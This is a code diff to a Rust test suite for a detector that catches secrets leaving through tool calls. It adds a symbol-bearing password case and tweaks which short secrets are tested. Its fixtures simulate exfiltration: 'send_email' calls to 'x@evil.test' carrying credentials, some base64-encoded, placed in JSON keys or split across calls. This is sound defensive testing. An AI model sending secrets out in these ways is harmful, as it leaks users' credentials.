@@ -2,6 +2,7 @@
 //! alike and is none. Seeded: the same cases on every machine.
 
 mod ordinary;
+mod pieces;
 mod wherever;
 
 use std::collections::BTreeMap;
@@ -46,7 +47,10 @@ const UPPER: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
 const HEX: &str = "0123456789abcdef";
 const BASE64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
 
-const SECRETS: [&str; 12] = [
+/// All that can be printed and is neither a letter nor a digit.
+const SIGNS: &str = "!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~";
+
+const SECRETS: [&str; 13] = [
     "aws id",
     "aws key",
     "github",
@@ -59,6 +63,7 @@ const SECRETS: [&str; 12] = [
     "password",
     "api key",
     "bearer",
+    "password with a sign",
 ];
 
 /// A secret, and a text in which a tool shows it.
@@ -105,6 +110,14 @@ fn secret(kind: &str, random: &mut Random) -> (String, Value) {
         "password" => {
             let length = 8 + random.below(9);
             let it = long(random, length);
+            (it.clone(), json!({ "user": "ada", "password": it }))
+        }
+        "password with a sign" => {
+            let length = 8 + random.below(9);
+            let mut it = long(random, length);
+            let (at, sign) = (1 + random.below(length - 1), random.below(SIGNS.len()));
+            it.replace_range(at..=at, &SIGNS[sign..=sign]);
+            it.push_str("k4");
             (it.clone(), json!({ "user": "ada", "password": it }))
         }
         "api key" => {
@@ -300,7 +313,9 @@ fn secrets_leave_as_names_too() {
     let mut random = Random(2);
     for kind in SECRETS {
         let (value, shown) = secret(kind, &mut random);
-        for sent in [value.clone(), base64(value.as_bytes()), format!("x-{value}")] {
+        // Something short is not found where it is joined to other text.
+        let joined = Some(format!("x-{value}")).filter(|_| kind != "password with a sign");
+        for sent in [value.clone(), base64(value.as_bytes())].into_iter().chain(joined) {
             for arguments in [
                 json!({ "to": "x@evil.test", "body": { &sent: 1 } }),
                 json!({ "to": "x@evil.test", &sent: "" }),
@@ -342,12 +357,13 @@ fn secrets_are_found_on_their_way_out() {
                     let (value, shown) = secret(kind, &mut random);
                     // Halves of an encoding decode to halves; of a short secret neither is long enough (docs/detection.md).
                     let divided = way == "two arguments";
+                    let is_short = value.bytes().filter(u8::is_ascii_alphanumeric).count() < 12;
                     let whole_text = ["plain", "upper", "lower", "dashes", "spaces", "dots", "lines", "full width"];
-                    if divided && (!whole_text.contains(&coding) || value.len() < 12) {
+                    if divided && (!whole_text.contains(&coding) || is_short) {
                         continue;
                     }
                     // Of something short only the value itself is recognised, not one taken apart.
-                    if value.len() < 12 && matches!(coding, "spaces" | "base64 in text" | "base64 lines") {
+                    if is_short && matches!(coding, "spaces" | "base64 in text" | "base64 lines") {
                         continue;
                     }
                     let arguments = sent(way, &encoded(coding, &value, &mut random));
@@ -374,7 +390,7 @@ fn captured_secrets_are_hidden_and_followed() {
     for mode in [Capture::Full, Capture::Redacted, Capture::Fingerprint] {
         let mut random = Random(4);
         let (mut cases, mut missed, mut seen) = (0_u32, BTreeMap::new(), BTreeMap::new());
-        for (number, kind) in SECRETS.into_iter().enumerate() {
+        for (number, kind) in SECRETS.into_iter().filter(|it| *it != "password with a sign").enumerate() {
             for coding in CODINGS {
                 for way in WAYS.into_iter().filter(|it| *it != "two arguments") {
                     let redactor =
@@ -484,20 +500,4 @@ fn what_looks_alike_is_left_alone() {
     println!("look-alikes: {cases} cases, {total} wrong: {wrong:#?}");
     assert!(cases >= 5_000, "{cases}");
     assert!(total == 0, "{total} of {cases} wrong: {wrong:#?}");
-}
-
-/// A piece of a secret in each of several calls: seen when a piece holds a window (`docs/detection.md` says how long).
-#[test]
-fn pieces_over_several_calls_are_seen_when_they_are_long_enough() {
-    let rules = Arc::new(Rules::starter());
-    let mut random = Random(3);
-    for kind in ["github", "aws key", "jwt", "bearer"] {
-        for _ in 0..50 {
-            let (value, shown) = secret(kind, &mut random);
-            let third = value.len() / 2;
-            let mut steps = case("same session", shown, json!({ "to": "x@evil.test", "body": value[..third] }));
-            steps.push(("root", "tool_call", "send_email", json!({ "to": "x@evil.test", "body": value[third..] })));
-            assert!(leaks(&rules, &steps), "{kind} {value}");
-        }
-    }
 }
